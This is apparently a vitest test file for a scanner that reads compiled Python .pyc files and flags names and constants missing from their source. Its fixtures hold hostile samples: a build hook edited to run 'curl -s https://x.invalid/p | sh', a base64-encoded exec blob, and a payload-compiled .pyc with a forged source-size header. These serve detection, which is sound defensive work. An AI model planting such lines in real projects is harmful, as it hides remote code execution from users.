/**
 * Compiled Python read without running it. The .pyc files here are compiled by this machine's
 * CPython from sources written here (the honest one and a neighbour with a payload), and one is
 * assembled by hand in the layout of CPython 3.6, which no interpreter here writes.
 */
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { judgeBytecode, readBytecode, wordsNotInSource } from '../../src/verify/explain/bytecode.js'
import { addedFile, memoryView as view } from '../helpers/tree-view.js'

const work = mkdtempSync(join(tmpdir(), 'stagelight-pyc-'))
afterAll(() => rmSync(work, { recursive: true, force: true }))

/** `source` compiled by CPython into a .pyc, with a timestamp header (the default) or an unchecked hash. */
function compile(source: string, mode: 'TIMESTAMP' | 'UNCHECKED_HASH' = 'TIMESTAMP'): Buffer {
  const py = join(work, `m${Math.random().toString(36).slice(2)}.py`)
  writeFileSync(py, source)
  execFileSync('python3', ['-c', `import py_compile, sys; py_compile.compile(sys.argv[1], cfile=sys.argv[1] + 'c', doraise=True, invalidation_mode=py_compile.PycInvalidationMode.${mode})`, py])
  return readFileSync(`${py}c`)
}

const HOOKS = [
  '"""Build hooks."""',
  'import os',
  'MESSAGE = "building %s\\nplease wait" % os.name',
  '',
  'class Backend:',
  '    def build(self, *, strict=False):',
  "        assert strict in (True, False)",
  "        pad = 'ab' * 20",
  '        return [n for n in os.listdir(".") if n.endswith(".py")]',
  '',
].join('\n')

describe('compiled Python', () => {
  it("reads the header and the code's names and constants, not its instructions or file name", () => {
    const bytecode = readBytecode(compile(HOOKS))
    expect(bytecode?.checked).toBe('size')
    expect(bytecode?.sourceSize).toBe(Buffer.byteLength(HOOKS))
    expect([...(bytecode?.words ?? [])]).toEqual(expect.arrayContaining(['Backend', 'build', 'listdir', 'endswith', 'MESSAGE', 'building', 'please', 'strict']))
    // the temporary path it was compiled at is not a word of the code
    expect([...(bytecode?.words ?? [])].some((w) => w.startsWith('stagelight'))).toBe(false)
    expect(readBytecode(compile(HOOKS, 'UNCHECKED_HASH'))?.checked).toBe('never')
  })

  it('finds every word of bytecode compiled from a source in that source, and a payload compiled in', () => {
    const bytecode = readBytecode(compile(HOOKS))
    expect(bytecode?.words && wordsNotInSource(bytecode.words, HOOKS)).toEqual([])
    const payload = HOOKS.replace('        return [', '        os.system("curl -s https://x.invalid/p | sh")\n        return [')
    const evil = readBytecode(compile(payload))
    expect(evil?.words && wordsNotInSource(evil.words, HOOKS)).toEqual(expect.arrayContaining(['system', 'curl', 'invalid']))
    // an encoded blob is a word no source has
    const blob = readBytecode(compile(`${HOOKS}import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n`))
    expect(blob?.words && wordsNotInSource(blob.words, `${HOOKS}import base64\n`)).toEqual(expect.arrayContaining(['exec', 'b64decode']))
  })

  it('reads the layout of CPython 3.6, which has no flags word', () => {
    const z = (text: string) => Buffer.concat([Buffer.from([0x7a, text.length]), Buffer.from(text, 'latin1')])
    const tuple = (...items: Buffer[]) => Buffer.concat([Buffer.from([0x29, items.length]), ...items])
    const int32 = (n: number) => {
      const b = Buffer.alloc(4)
      b.writeInt32LE(n)
      return b
    }
    const header = Buffer.concat([Buffer.from([0x33, 0x0d, 0x0d, 0x0a]), int32(1_600_000_000), int32(42)])
    const code = Buffer.concat([Buffer.from('c'), int32(0), int32(0), int32(0), int32(2), int32(64), Buffer.from([0x73]), int32(0), tuple(z('hello'), Buffer.from('N')), tuple(z('print')), tuple(), tuple(), tuple(), z('/home/x/m.py'), z('<module>'), int32(1), Buffer.from([0x73]), int32(0)])
    const bytecode = readBytecode(Buffer.concat([header, code]))
    expect(bytecode?.python).toBe('3.6')
    expect(bytecode?.sourceSize).toBe(42)
    expect([...(bytecode?.words ?? [])].sort()).toEqual(['hello', 'print'])
    // cut short, or an unknown type: the header without words, not a crash
    expect(readBytecode(Buffer.concat([header, code]).subarray(0, 40))).toEqual({ python: '3.6', checked: 'size', sourceSize: 42 })
    expect(readBytecode(Buffer.concat([header, Buffer.from('Q')]))?.words).toBeUndefined()
    expect(readBytecode(Buffer.from('#!/bin/sh\necho hi\n'))).toBeUndefined()
  })

  it('survives nesting deeper than any compiler writes', () => {
    const header = Buffer.concat([Buffer.from([0xcb, 0x0d, 0x0d, 0x0a]), Buffer.alloc(12)])
    const deep = Buffer.concat([header, Buffer.alloc(100_000, 0x5b), Buffer.alloc(4)])
    expect(readBytecode(deep)?.words).toBeUndefined()
  })

  it('weighs a cached .pyc by what it holds against its source', async () => {
    const at = 'backend/__pycache__/hooks.cpython-311.pyc'
    const judged = async (pyc: Buffer, source = HOOKS) => {
      const j = await judgeBytecode(addedFile(at, pyc), view({ 'backend/hooks.py': source, [at]: pyc }))
      return j?.outcome === 'unexplained' ? j.findings[0]?.severity : j?.outcome
    }
    expect(await judged(compile(HOOKS))).toBe('low')
    const payload = HOOKS.replace('        return [', '        os.system("id")\n        return [')
    // compiled from a payload, shipped beside the honest source with its size written in
    const evil = compile(payload)
    evil.writeUInt32LE(Buffer.byteLength(HOOKS), 12)
    expect(await judged(evil)).toBe('critical')
    expect(await judged(compile(payload, 'UNCHECKED_HASH'))).toBe('critical')
    // compiled from another size of the source: Python compiles the source again
    expect(await judged(compile(payload))).toBe('low')
    expect(await judged(Buffer.concat([compile(HOOKS).subarray(0, 16), Buffer.from('garbage')]))).toBe('high')
  })
})
